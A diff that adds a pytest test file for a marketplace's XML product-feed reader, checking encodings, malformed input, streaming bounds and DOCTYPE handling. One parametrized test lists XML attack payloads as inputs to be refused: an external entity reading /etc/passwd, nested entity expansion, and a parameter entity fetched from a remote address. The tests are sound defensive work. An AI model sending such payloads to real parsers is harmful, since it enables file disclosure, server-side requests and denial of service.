@@ -1,0 +1,139 @@
+"""XML is read as it comes, by local names, and nothing in it is believed that reaches outside."""
+
+from pathlib import Path
+
+import pytest
+
+from marketplace.sourcing.reading import xml_records
+from marketplace.sourcing.reading.errors import FeedRefused
+from marketplace.sourcing.reading.xml_records import elements
+from tests.sourcing.support import checked, read_all, written
+
+ITEM = "<product><code>A{n}</code><name>Mug {n}</name><price>9.90</price><currency>EUR</currency><stock>{n}</stock></product>"
+
+
+def catalogue(count: int = 3, prolog: str = '<?xml version="1.0" encoding="UTF-8"?>\n') -> str:
+    return (
+        prolog
+        + "<catalogue>\n"
+        + "\n".join(ITEM.format(n=n) for n in range(1, count + 1))
+        + "\n</catalogue>\n"
+    )
+
+
+def test_any_repeated_element_is_a_record(tmp_path: Path) -> None:
+    found = checked(written(tmp_path, catalogue(), "feed.xml"))
+    assert (found["format"], found["rows"], found["accepted"]) == ("xml", 3, 3)
+    assert found["sample"][0]["price"] == {"amount_minor": 990, "currency": "EUR"}
+    assert [row["line"] for row in found["sample"]] == [3, 4, 5]
+
+
+def test_a_single_record_is_found_by_its_name(tmp_path: Path) -> None:
+    assert checked(written(tmp_path, catalogue(1), "feed.xml"))["accepted"] == 1
+
+
+def test_bytes_that_are_utf8_win_over_what_is_declared(tmp_path: Path) -> None:
+    text = catalogue(2, '<?xml version="1.0" encoding="ISO-8859-1"?>\n').replace("Mug", "Théière")
+    found = checked(written(tmp_path, text, "feed.xml"))
+    assert found["encoding"] == "utf-8"
+    assert found["sample"][0]["title"] == "Théière 1"
+    assert any("says that it is" in warning for warning in found["warnings"])
+
+
+def test_a_declared_encoding_is_used_where_it_holds(tmp_path: Path) -> None:
+    text = catalogue(2, '<?xml version="1.0" encoding="windows-1250"?>\n').replace("Mug", "Żółty")
+    assert checked(written(tmp_path, text, "feed.xml", "cp1250"))["sample"][0]["title"] == "Żółty 1"
+
+
+def test_half_a_document_is_refused_with_line_and_column(tmp_path: Path) -> None:
+    text = catalogue(40)
+    for content in (
+        text[: len(text) // 2],
+        text.replace("<name>Mug 30</name>", "<name>Mug 30</nam>"),
+        text.replace("Mug 7<", "Mug & 7<"),
+    ):
+        with pytest.raises(FeedRefused) as refused:
+            checked(written(tmp_path, content, "feed.xml"))
+        assert refused.value.code == "xml"
+        assert refused.value.line is not None
+        assert refused.value.column is not None
+
+
+def test_a_fault_beyond_the_first_look_is_found_while_reading(tmp_path: Path) -> None:
+    text = catalogue(12_000).replace("<name>Mug 11999</name>", "<name>Mug 11999</nam>")
+    with pytest.raises(FeedRefused) as refused:
+        checked(written(tmp_path, text, "feed.xml"))
+    assert refused.value.line == 12_001
+
+
+def test_a_doctype_of_the_trade_is_passed_over(tmp_path: Path) -> None:
+    for doctype in (
+        '<!DOCTYPE catalogue SYSTEM "shops.dtd">',
+        '<!DOCTYPE catalogue [\n<!ELEMENT catalogue ANY>\n<!ENTITY % x "(a,b)">\n]>',
+    ):
+        found = checked(written(tmp_path, catalogue(2, f'<?xml version="1.0"?>\n{doctype}\n'), "feed.xml"))
+        assert found["accepted"] == 2
+        assert found["sample"][0]["line"] == 4 + doctype.count("\n")
+
+
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        '<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+        '<!DOCTYPE c [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
+        '<!DOCTYPE c [<!ENTITY % x SYSTEM "http://203.0.113.1/x"> %x;]>',
+        "<!DOCTYPE c [" + "<!ELEMENT a ANY>" * 9_000,
+    ],
+)
+def test_a_doctype_that_declares_entities_is_refused(tmp_path: Path, doctype: str) -> None:
+    with pytest.raises(FeedRefused) as refused:
+        checked(written(tmp_path, catalogue(2, f'<?xml version="1.0"?>\n{doctype}\n'), "feed.xml"))
+    assert (refused.value.code, refused.value.line) == ("doctype", 2)
+
+
+def test_an_entity_nobody_declared_is_a_fault(tmp_path: Path) -> None:
+    text = catalogue(2, '<?xml version="1.0"?>\n<!DOCTYPE c SYSTEM "x.dtd">\n').replace(
+        "Mug 2", "Mug &secret;"
+    )
+    with pytest.raises(FeedRefused) as refused:
+        checked(written(tmp_path, text, "feed.xml"))
+    assert (refused.value.code, refused.value.line) == ("xml", 5)
+
+
+def test_a_tree_too_deep_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(FeedRefused) as refused:
+        checked(written(tmp_path, "<a>" * 100_000 + "</a>" * 100_000, "feed.xml"))
+    assert refused.value.code == "xml"
+
+
+def test_a_document_without_records_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(FeedRefused) as refused:
+        checked(written(tmp_path, "<config><timeout>5</timeout></config>", "feed.xml"))
+    assert refused.value.code == "no_records"
+
+
+def test_named_parameters_are_options_and_markup_is_text(tmp_path: Path) -> None:
+    text = """<?xml version="1.0"?><items>
+    <item id="1"><title>Mug</title><description><p>Very <b>blue</b></p></description><param name="Colour">blue</param>
+      <attribute><name>Size</name><value>M</value></attribute><price>5.00 EUR</price></item>
+    <item id="2"><title>Cup</title><description>Plain</description><param name="Colour">red</param><price>6.00 EUR</price></item>
+    </items>"""
+    _, offers, _ = read_all(written(tmp_path, text, "feed.xml"))
+    assert offers[0].options == {"Colour": "blue", "Size": "M"}
+    assert offers[0].description == "Very blue"
+    assert [offer.sku for offer in offers] == ["1", "2"]
+
+
+def test_no_more_than_the_record_at_hand_is_held(tmp_path: Path) -> None:
+    path = written(tmp_path, catalogue(5_000), "feed.xml")
+    held = [len(element.getparent()) for _, element in elements(path, "utf-8", "product")]
+    assert len(held) == 5_000
+    assert max(held) < 2_000  # what one chunk of the file holds
+
+
+def test_what_lies_between_records_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(xml_records, "MAX_RECORD", 200_000)
+    text = catalogue(3).replace("</catalogue>", "<junk/>" * 60_000 + "</catalogue>")
+    with pytest.raises(FeedRefused) as refused:
+        read_all(written(tmp_path, text, "feed.xml"))
+    assert refused.value.code == "big_record"
